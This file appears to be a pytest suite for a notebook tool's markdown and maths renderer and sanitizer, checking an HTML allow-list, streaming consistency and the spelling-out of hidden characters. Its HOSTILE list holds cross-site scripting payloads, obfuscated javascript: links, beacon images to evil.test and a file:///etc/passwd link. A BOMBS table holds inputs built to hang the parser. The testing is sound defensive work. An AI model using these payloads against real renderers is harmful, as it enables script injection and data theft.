@@ -1,0 +1,421 @@
+"""Rendering of model output: what it looks like, that nothing hostile gets through, and that streaming agrees."""
+
+from __future__ import annotations
+
+import random
+import time
+from html import unescape
+from html.parser import HTMLParser
+
+import pytest
+
+from nbkit.rendering.markdown import Incremental, render, render_static, to_text
+from nbkit.rendering.sanitize import clean, plain_html, visible
+
+TAGS = """
+p br hr h1 h2 h3 h4 h5 h6 strong em s blockquote ul ol li pre code span div a table thead tbody tr th td
+math mrow mi mn mo mtext mspace mfrac msqrt mroot msub msup msubsup mover munder munderover mtable mtr mtd mstyle
+mpadded mphantom menclose
+""".split()  # noqa: SIM905 - one literal a word would fill a page
+ATTRIBUTES = {
+    "a": {"href", "title", "target", "rel"},
+    "ol": {"start"},
+    "th": {"align"},
+    "td": {"align"},
+    "span": {"class"},
+    "div": {"class", "dir"},
+}
+MATH_ATTRIBUTES = """
+display displaystyle scriptlevel stretchy fence form accent columnalign columnspacing rowspacing width
+""".split()  # noqa: SIM905 - one literal a word would fill a page
+
+
+class Seen(HTMLParser):
+    """What a browser would find: tags, attributes, text."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str]]] = []
+        self.text = ""
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, {name: value or "" for name, value in attrs}))
+
+    def handle_data(self, data):
+        self.text += data
+
+    def handle_comment(self, data):
+        raise AssertionError(f"a comment: {data}")
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+
+def safe(markup: str) -> Seen:
+    """Parse HTML and fail on whatever is outside the allow-list."""
+    seen = Seen(markup)
+    for tag, attributes in seen.tags:
+        assert tag in TAGS
+        extra = set(attributes).difference(ATTRIBUTES.get(tag, MATH_ATTRIBUTES if tag.startswith("m") else ()))
+        assert not extra, (tag, extra)
+        for name in attributes.get("class", "").split():
+            assert name.startswith("nbk-") or name in {"tex2jax_ignore", "mathjax_ignore"}
+        if tag == "a":
+            assert attributes["href"].lower().startswith(("http://", "https://", "mailto:"))
+            assert attributes["rel"] == "noopener noreferrer nofollow"
+            assert attributes["target"] == "_blank"
+    assert visible(seen.text) == seen.text
+    return seen
+
+
+def links(markup: str) -> list[str]:
+    return [attributes["href"] for tag, attributes in safe(markup).tags if tag == "a"]
+
+
+HOSTILE = [
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "a <svg onload=alert(1)><style>*{display:none}</style>",
+    "<a href='javascript:alert(1)' ping=x>x</a>",
+    "<button data-commandlinker-command=terminal:create-new>run</button>",
+    "<form action=//evil><input name=cookie autofocus onfocus=alert(1)></form>",
+    "<!-- comment --> <?php x ?> <![CDATA[x]]> <!DOCTYPE html>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#115;cript:alert(1)) [x](&#106;avascript&colon;alert(1))",
+    "[x](<java\tscript:alert(1)>) [x](java&Tab;script:alert(1)) [x](java&NewLine;script:alert(1))",
+    "[x](\x01javascript:alert(1)) [x]( javascript:alert(1))",
+    "[x][y]\n\n[y]: javascript:alert(1)",
+    "[x][y]\n\n[y]: <vbscript:x> 'title'",
+    "<javascript:alert(1)> <data:text/html,x>",
+    "[x](data:text/html;base64,PHNjcmlwdD4=) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
+    "[x](//evil.test/a) [x](/etc) [x](#id) [x](\\\\evil.test) [x](https:evil.test) [x](http:///evil) [x](file:///etc/passwd)",
+    "[x](http://[::1) [x](https://)",
+    '[x](https://ok.test "a\\" onmouseover=\\"alert(1)")',
+    '[x](https://ok.test/"onmouseover="alert(1)) <https://ok.test/"onclick="x">',
+    '```"><script>alert(1)</script>\n<b>\n```',
+    "```python' onclick='x\n'<img src=x>'\n```",
+    "| <img src=x onerror=1> | b |\n|:-:|---|\n| <script> | `<b>` |",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+    "![x](https://evil.test/?q=secret) ![<script>](https://evil.test)",
+    "[![x](https://evil.test/a.png)](https://evil.test)",
+    r"$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{x}$ $\class{jp-Button}{x}$",
+    r"$\text{<img src=x onerror=alert(1)>}$ $\text{</math><script>alert(1)</script>}$ $x<script>y$",
+    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$ $\unicode{x202E}$ $\text{&#x202E;}$",
+    r"$\color{red}{x} \colorbox{red}{y} \hspace{9999em} \rule{99em}{9999em}$",
+    "$<mglyph><style><img src=x onerror=alert(1)>$",
+    "\x1b]8;;https://evil.test\x07link\x1b]8;;\x07 \u202egnp.exe \U000e0041\U000e0042 \u200b \ud800",
+    "&#x202E; &#x1b;[31m &#xE0041; &#13; &#0;",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("how", [render, render_static])
+def test_hostile_output_stays_text(how, text):
+    seen = safe(how(text))
+    assert "9999" not in "".join(str(attributes) for _, attributes in seen.tags)
+
+
+def test_the_sanitizer_alone_holds_too():
+    raw = (
+        "<img src=x onerror=1><a href=javascript:1 onclick=1 style=x id=y name=z>a</a><span class='jp-x nbk-k'>b</span>"
+        "<math href=javascript:1><mtext><style><img src=x></style></mtext><mi style=x mathcolor=red>c</mi></math>"
+        "<a href=//evil.test>d</a><td data-x=1 align=evil>e</td><svg><script>f</script></svg><p dir=rtl>g\u202e"
+    )
+    seen = Seen(clean(raw))
+    assert {tag for tag, _ in seen.tags} <= set(TAGS)
+    assert {name for _, attributes in seen.tags for name in attributes} == {"class", "rel", "target"}
+    assert ("span", {"class": "nbk-k"}) in seen.tags
+    assert "\u202e" not in seen.text
+
+
+def test_only_links_that_name_a_host_become_links_and_say_which():
+    html = render("[safe](https://ok.test/a?b=1&c) <mailto:a@b.test> [bank](https://bank.test@EVIL.test/) [r](x.md)")
+    titles = {attributes["title"] for tag, attributes in safe(html).tags if tag == "a"}
+    assert titles == {"ok.test", "a@b.test", "evil.test"}
+    assert "[r](x.md)" in Seen(html).text
+    assert links(render("[x](https://\u0430pi.test)")) == ["https://xn--pi-6kc.test"]
+
+
+def test_images_are_named_and_never_fetched():
+    assert Seen(render('![a "cat"](https://evil.test/x.png?q=1)')).text.strip() == '[image: a "cat", evil.test]'
+    assert Seen(render_static("![](http://evil.test)")).text.strip() == "[image: evil.test]"
+
+
+def test_markdown_of_answers():
+    html = render("# T\n\n**b** ~~s~~ `c`\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n3. x\n4. y\n\n> q")
+    tags = [tag for tag, _ in safe(html).tags]
+    for tag in ("h1", "strong", "s", "code", "table", "ol", "blockquote"):
+        assert tag in tags
+    assert ("td", {"align": "right"}) in Seen(html).tags
+    assert ("ol", {"start": "3"}) in Seen(html).tags
+
+
+@pytest.mark.parametrize("language", ["python", "Python title=x", "sql", "json", "unheard-of", "", "brainfuck"])
+def test_code_is_colored_without_changing_it(language):
+    code = "\n\n  def f(x):\treturn \"<b>\" + '&amp;'  # $x$ \\(y\\)\n\n"
+    html = render(f"```{language}\n{code}```")
+    assert Seen(html).text.strip("\n") == code.strip("\n")
+    assert ("nbk-" in html) == language.lower().startswith(("python", "sql", "json"))
+    assert "nbk-" not in render_static(f"```{language}\n{code}```")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "It costs $5 and $6.",
+        "$0.15/M in, $0.60/M out",
+        "US$5 and A$6, 2$ or 3$",
+        "see `$x$` and `\\(y\\)`",
+        "```\n$$\nx\n$$\n\\[y\\]\n```",
+        "    $x$",
+        "from $x, see `$y`",
+        r"\$x\$",
+        "$x",
+    ],
+)
+def test_what_is_no_maths(text):
+    assert "<math" not in render(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "display"),
+    [
+        ("so $x^2$, the $n$th", "inline"),
+        (r"so \(x_1\) is", "inline"),
+        ("so $$x$$ is", "block"),
+        (r"so \[x \\[4pt] y\] is", "block"),
+        ("text\n$$\nx\n- y\n$$\ntext", "block"),
+        ("\\[\n\nx\n\n+ y\n\\].", "block"),
+        ("1. a\n   \\[\n   x\n   \\]\n2. b", "block"),
+        ("> $$x$$\n> b", "block"),
+        ("\\[\n\\begin{aligned} x &= b \\\\ c &= d \\end{aligned}\n\\]", "block"),
+    ],
+)
+def test_maths_becomes_mathml_and_is_source_in_the_static_twin(text, display):
+    assert ("math", {"display": display}) in safe(render(text)).tags
+    static = safe(render_static(text))
+    assert "math" not in [tag for tag, _ in static.tags]
+    assert "x" in static.text
+
+
+@pytest.mark.parametrize(
+    "tex",
+    [
+        r"\unheardof{x}",
+        r"\frac",
+        r"\begin{unheard}a & b\end{unheard}",
+        r"\newcommand{\a}{x}\a",
+        r"\def\a{\a\a}\a",
+        "{" * 1900 + "}" * 1900,
+        "x" * 5000,
+    ],
+)
+def test_tex_that_cannot_be_drawn_is_shown_as_it_is(tex):
+    seen = safe(render(f"a ${tex}$ b"))
+    assert [tag for tag, _ in seen.tags] == ["p", "code"]
+    assert seen.text == f"a {tex} b\n"
+
+
+def test_an_unclosed_formula_ends_with_the_list_item_that_holds_it():
+    tags = [tag for tag, _ in safe(render("- a\n  $$\n  x\n\nafter\n$$")).tags]
+    assert tags[:4] == ["ul", "li", "pre", "code"]
+    assert "p" in tags
+
+
+def test_a_static_twin_keeps_mathjax_away_from_prices_and_hostile_tex():
+    tag, attributes = safe(render_static(r"costs $5, then $6 and \\(\href{javascript:x}{y}\\)")).tags[0]
+    assert tag == "div"
+    assert set(attributes["class"].split()) == {"tex2jax_ignore", "mathjax_ignore"}
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("a\u202eb\u2066c\u200e", "a⟨U+202E⟩b⟨U+2066⟩c⟨U+200E⟩"),
+        ("\x1b[31mred\x07\x9b\x7f", "⟨U+001B⟩[31mred⟨U+0007⟩⟨U+009B⟩⟨U+007F⟩"),
+        ("hi\U000e0041\U000e0102\u200b\ufeff", "hi⟨U+E0041⟩⟨U+E0102⟩⟨U+200B⟩⟨U+FEFF⟩"),
+        ("a\u200db é\u200d\u200cé \ufe0f", "a⟨U+200D⟩b é⟨U+200D⟩⟨U+200C⟩é \ufe0f"),
+        ("x\ufe0f\ufe01\ufe02", "x\ufe0f⟨U+FE01⟩⟨U+FE02⟩"),
+        ("\ud83d", "⟨U+D83D⟩"),
+        ("one\r\ntwo\rthree\tfour", "one\ntwo\nthree\tfour"),
+        ("👨‍👩‍👧 ❤️‍🔥 1️⃣ می‌خواهم क्‍ष ü €", "👨‍👩‍👧 ❤️‍🔥 1️⃣ می‌خواهم क्‍ष ü €"),
+    ],
+)
+def test_hidden_characters_are_spelled_out(text, shown):
+    assert visible(text) == to_text(text) == shown
+    assert visible(shown) == shown
+    assert unescape(plain_html(text)) == shown
+
+
+def test_plain_html_fits_between_tags_and_into_attributes():
+    text = """</p><script>x</script>" onclick='y' &amp; \u202e"""
+    seen = Seen(f'<p title="{plain_html(text)}">{plain_html(text)}</p>')
+    assert seen.tags == [("p", {"title": visible(text)})]
+    assert seen.text == visible(text)
+
+
+BOMBS = {
+    "quotes": "> " * 10_000 + "x",
+    "lists": "- " * 10_000 + "x",
+    "brackets": "[" * 10_000 + "x" + "](http://a.test)" * 2_000,
+    "images": "![a" * 5_000 + "](http://a.test)" * 1_000,
+    "emphasis": "**a *b _c ~~d " * 2_000,
+    "stars": "*" * 20_000 + "a" + "*" * 20_000,
+    "ticks": "".join("`" * i + "a" for i in range(200)),
+    "dollars": "$a " * 10_000 + "$$\n" * 5_000 + "\\(" * 10_000 + "\\[" * 10_000,
+    "table": "|a" * 200 + "|\n" + "|-" * 200 + "|\n" + "x\n" * 200,
+    "entities": "&#x41;" * 10_000 + "&" * 10_000,
+    "macros": r"$\newcommand{\a}{" + "x" * 2_000 + "}" + r"\a" * 600 + "$",
+    "tex": "$" + r"\sqrt" * 700 + "$ $" + "x'" * 1_900 + "$ $" + r"\frac{" * 600 + "$",
+    "blank C": "```c\n" + "\n" * 20_000 + "```",
+    "slashes in C": "```c\n" + "/*\n" * 10_000 + "```",
+    "long line of C": "```c\n" + "/" * 20_000 + "\n```",
+    "one line": "a" * 1_000_000,
+    "many lines": "a *b*\n" * 170_000,
+}
+
+
+@pytest.mark.parametrize("bomb", BOMBS)
+def test_texts_written_to_hang_or_overflow_do_neither(bomb):
+    started = time.process_time()
+    html = render(BOMBS[bomb])
+    assert time.process_time() - started < 3
+    safe(html)
+
+
+def streamed(text: str, chance: random.Random) -> tuple[str, int]:
+    """Feed the text in pieces, flush now and then; return the closed blocks and the last tail, and how many closed."""
+    doc, closed, at = Incremental(), [], 0
+    while at < len(text):
+        size = chance.randint(1, 12)
+        doc.feed(text[at : at + size])
+        at += size
+        if chance.random() < 0.8:
+            closed += doc.flush().closed
+    final = render(text)
+    for _ in range(200):  # a flush may have put the tail off
+        update = doc.flush()
+        closed += update.closed
+        if "".join(closed) + update.tail == final:
+            break
+        time.sleep(0.01)
+    assert doc.finish() == final
+    return "".join(closed) + update.tail, len(closed)
+
+
+ANSWER = """# Title
+
+A paragraph with **bold**, `code`, $x^2$ and [a link](https://a.test).
+Setext
+------
+
+- loose
+
+- list
+
+  ```python
+  def f(x):
+
+      return x
+  ```
+- > quote
+
+1. a
+\\[
+x
+
++ y
+\\]
+| a | b |
+|---|---|
+| 1 | 2 |
+a | b
+
+    indented
+
+    code
+<div>
+
+***
+$$
+z
+$$
+"""
+WRITTEN = r"""
+-·a -·b¶ *· 1.· 10)·x #·h >·q >· ¶ ¶¶ ·· ···· ⇥ ``` ```sql¶ ~~~ ` `` $$ \[ \] $x$ $ \(y\) \ |·a·|·b·| |---|--| a·|·b¶
+--|--¶ | --- === = - **b** ** * _ text two·words¶ <div> <!-- --> [l](http://a.b) [a] ![i](http://c.d/e) &amp; &#x202e;
+◁ ⏎¶ ⏎é +·c *** x_1 2. ∅ <http://c.d> :
+"""
+PIECES = [piece.translate(str.maketrans("·¶⏎⇥◁∅", " \n\r\t\u202e\0")) for piece in WRITTEN.split()]
+
+
+def test_a_streamed_answer_is_the_rendered_answer():
+    for seed in range(30):
+        html, closed = streamed(ANSWER, random.Random(seed))  # noqa: S311 - no secret depends on it
+        assert html == render(ANSWER)
+        assert closed > 8
+
+
+def test_any_text_streams_to_what_it_renders_to():
+    for seed in range(1_000):
+        chance = random.Random(seed)  # noqa: S311 - no secret depends on it
+        text = "".join(
+            chance.choice(PIECES) + chance.choice(["", " ", "\n", "\n\n"]) for _ in range(chance.randint(2, 25))
+        )
+        html, _ = streamed(text, chance)
+        assert html == render(text), (seed, text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "para\na | b\n--|--x\nmore\n",
+        "- a\n*bold*\n",
+        "para\n--\n-x\n",
+        'A\n\n[a]: http://a.b\n"title\ngoes\non"\n\nB\n\nC\n',
+        "- $$\n  x\n# h\ny $$\n",
+        "A\n\n``\n`\n``` x\n```y\n\nB\n\nC",
+    ],
+)
+def test_a_block_is_not_closed_by_a_line_that_is_still_being_written(text):
+    doc, closed = Incremental(), []
+    for character in text:
+        doc.feed(character)
+        closed += doc.flush().closed
+    assert "".join(closed) + doc.flush().tail == render(text)
+
+
+def test_closed_blocks_stay_and_an_open_fence_is_code_already():
+    doc = Incremental()
+    doc.feed("one **bold")
+    assert doc.flush().tail == "<p>one **bold</p>\n"
+    doc.feed("**\n\n```python\nx = 1\ny")
+    update = doc.flush()
+    assert update.closed == ("<p>one <strong>bold</strong></p>\n",)
+    assert update.tail == "<pre><code>x = 1\ny</code></pre>\n"
+    assert doc.flush().closed == ()
+    doc.feed("\n```\nend")
+    assert 'class="nbk-' in doc.flush().tail
+    doc.feed("\n\n")
+    assert len(doc.flush().closed) == 1
+
+
+def test_a_link_defined_later_resolves_in_the_final_render():
+    doc = Incremental()
+    doc.feed("see [this][1]\n\nnext\n\nlast\n\n")
+    assert "<a" not in "".join(doc.flush().closed)
+    doc.feed("[1]: https://a.test\n")
+    doc.flush()
+    assert links(doc.finish()) == ["https://a.test"]
+
+
+def test_streaming_costs_a_few_renders_not_one_per_flush():
+    section = "## Part\n\n" + "Some **prose** with `code` and $x^2$.\n\n" * 4
+    answer = (section + "```python\n" + "def f(x): return x + 1\n" * 12 + "```\n\n1. one\n2. two\n\n") * 16
+    doc, started = Incremental(), time.process_time()
+    for at in range(0, len(answer), 50):  # 20 Hz at 1,000 characters a second
+        doc.feed(answer[at : at + 50])
+        doc.flush()
+    assert time.process_time() - started < 0.5
